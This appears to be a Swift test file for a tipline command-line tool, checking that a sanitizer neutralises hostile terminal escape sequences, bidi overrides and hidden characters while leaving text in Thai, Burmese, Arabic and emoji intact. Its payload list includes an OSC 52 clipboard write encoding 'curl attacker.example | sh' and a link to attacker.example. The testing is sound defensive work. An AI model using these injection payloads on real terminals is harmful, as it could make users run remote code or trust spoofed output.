import Foundation
import Testing
import TiplineCommandLine

/// Hostile text a tipster, a responder's device or a server could send, and
/// what must never reach a terminal from it.
enum HostilePayloads {
    static let all: [(name: String, text: String)] = [
        ("clear screen", "\u{1B}[2J\u{1B}[H"),
        ("cursor up and overwrite", "ok\u{1B}[1A\u{1B}[2KStatus: closed"),
        ("carriage return overwrite", "real text\rStatus: closed   "),
        ("backspaces", "urgent\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}routine"),
        ("hidden text (SGR 8)", "\u{1B}[8mhidden instructions\u{1B}[0m"),
        ("colour a fake OK", "\u{1B}[32maudit OK\u{1B}[0m"),
        ("OSC 8 hyperlink", "\u{1B}]8;;https://attacker.example/\u{7}click\u{1B}]8;;\u{7}"),
        ("OSC 52 clipboard write", "\u{1B}]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlIHwgc2g=\u{7}"),
        ("OSC window title", "\u{1B}]0;tipline: all tips deleted\u{1B}\\"),
        ("DCS string", "\u{1B}Pq#0;2;0;0;0\u{1B}\\"),
        ("C1 CSI", "\u{9B}2J"),
        ("C1 OSC", "\u{9D}52;c;AAAA\u{9C}"),
        ("C1 NEL", "line\u{85}Status: closed"),
        ("BEL", "ding\u{7}\u{7}\u{7}"),
        ("NUL", "before\u{0}after"),
        ("DEL", "abc\u{7F}\u{7F}"),
        ("right-to-left override", "invoice_\u{202E}fdp.exe"),
        ("left-to-right embedding", "\u{202A}text\u{202C}"),
        ("right-to-left isolate", "\u{2067}closed\u{2069}"),
        ("first strong isolate", "\u{2068}x\u{2069}"),
        ("Arabic letter mark", "a\u{061C}b"),
        ("right-to-left mark", "a\u{200F}b"),
        ("line separator", "one\u{2028}two\u{2029}three"),
        ("byte order mark", "\u{FEFF}text"),
        ("invisible times", "a\u{2062}b"),
        ("vertical tab and form feed", "a\u{0B}b\u{0C}c"),
        ("ESC alone at the end", "trailing\u{1B}"),
    ]

    /// Scalars a terminal obeys or that reorder or hide what it shows.
    static func dangerous(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.value {
        case 0x00...0x08, 0x0B...0x1F, 0x7F, 0x80...0x9F: return true
        case 0x200B...0x200D: return false
        default:
            switch scalar.properties.generalCategory {
            case .format, .lineSeparator, .paragraphSeparator: return true
            default: return false
            }
        }
    }

    /// The first dangerous scalar in `text`, if any.
    static func firstDangerous(in text: String, allowNewlines: Bool = true) -> Unicode.Scalar? {
        text.unicodeScalars.first { dangerous($0) || (!allowNewlines && $0 == "\n") }
    }
}

struct TerminalTextTests {
    @Test func theCatalogueIsLargeEnough() {
        #expect(HostilePayloads.all.count >= 20)
    }

    @Test func nothingDangerousSurvivesAndEveryCharacterStaysVisible() {
        for (name, text) in HostilePayloads.all {
            for newlines in [true, false] {
                let clean = TerminalText.clean(text, newlines: newlines)
                #expect(HostilePayloads.firstDangerous(in: clean, allowNewlines: newlines) == nil, "\(name): \(clean.debugDescription)")
                // Nothing is silently dropped: every input scalar leaves a mark.
                #expect(clean.unicodeScalars.count >= text.unicodeScalars.count, "\(name)")
            }
        }
    }

    @Test func controlsAreShownAsTheirPictures() {
        #expect(TerminalText.clean("\u{1B}[2J") == "␛[2J")
        #expect(TerminalText.clean("a\rb\u{8}c\u{7F}") == "a␍b␈c␡")
        #expect(TerminalText.clean("x\u{202E}y") == "x\\u{202E}y")
        #expect(TerminalText.clean("\u{9B}") == "\\u{009B}")
        #expect(TerminalText.clean("one\ntwo") == "one\ntwo")
        #expect(TerminalText.clean("one\ntwo", newlines: false) == "one␤two")
    }

    /// Thai, Burmese (with the zero-width space it uses between words),
    /// Arabic with a joiner, emoji sequences and tabs come through unchanged.
    @Test func honestTextInAnyScriptIsUnchanged() {
        for text in ["ถูกกักตัวที่อาคาร 7", "အဆောက်အအုံ\u{200B}၇ တွင်\u{200B}ထိန်းသိမ်းထားသည်", "مرحبا\u{200D}بك", "👩‍👩‍👧 🇹🇭",
                     "tab\tseparated", "Ünïcödé — “quotes” …"] {
            #expect(TerminalText.clean(text) == text, "\(text)")
        }
    }

    /// Keys pressed at the guided prompt never become part of the tip.
    @Test func typedLinesLoseEscapeSequences() {
        #expect(TerminalText.typed("abc\u{1B}[Ddef") == "abcdef")  // left arrow
        #expect(TerminalText.typed("\u{1B}[1;5Cword") == "word")  // ctrl+right
        #expect(TerminalText.typed("\u{1B}OPhelp") == "help")  // F1 (SS3)
        #expect(TerminalText.typed("a\u{1B}]0;title\u{7}b") == "ab")  // OSC
        #expect(TerminalText.typed("a\u{1B}]52;c;AAAA\u{1B}\\b") == "ab")
        #expect(TerminalText.typed("x\u{8}y\u{7F}z\u{0}") == "xyz")
        #expect(TerminalText.typed("tab\there") == "tab here")
        #expect(TerminalText.typed("ข้อความ ภาษาไทย") == "ข้อความ ภาษาไทย")
        #expect(TerminalText.typed("end\u{1B}") == "end")
    }

    /// `--json` output: every character a terminal would obey becomes a JSON
    /// escape, and any JSON reader gets back exactly the text that went in.
    @Test func jsonIsTerminalSafeAndMeansTheSame() throws {
        struct Text: Codable, Equatable { let text: String }
        let strange = "a\u{7F}b\u{9B}2J\u{202E}gpj.exe\u{2028}\u{FEFF}\u{E0041}\u{1B}[2J\tทดสอบ\u{200B}မြန်မာ \\\u{202A}"
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys, .prettyPrinted]
        let safe = TerminalText.json(String(decoding: try encoder.encode(Text(text: strange)), as: UTF8.self))
        for scalar in safe.unicodeScalars {
            let control = scalar.value < 0x20 && scalar.value != 0x0A || (0x7F...0x9F).contains(scalar.value)
            let hidden = scalar.properties.generalCategory == .format && !(0x200B...0x200D).contains(scalar.value)
            #expect(!control && !hidden, "raw U+\(String(scalar.value, radix: 16)) in \(safe.debugDescription)")
        }
        #expect(safe.contains("\\u007F") && safe.contains("\\u202E") && safe.contains("\\uDB40\\uDC41"))
        #expect(try JSONDecoder().decode(Text.self, from: Data(safe.utf8)) == Text(text: strange))
        #expect(safe.contains("ทดสอบ\u{200B}မြန်မာ"))
    }
}
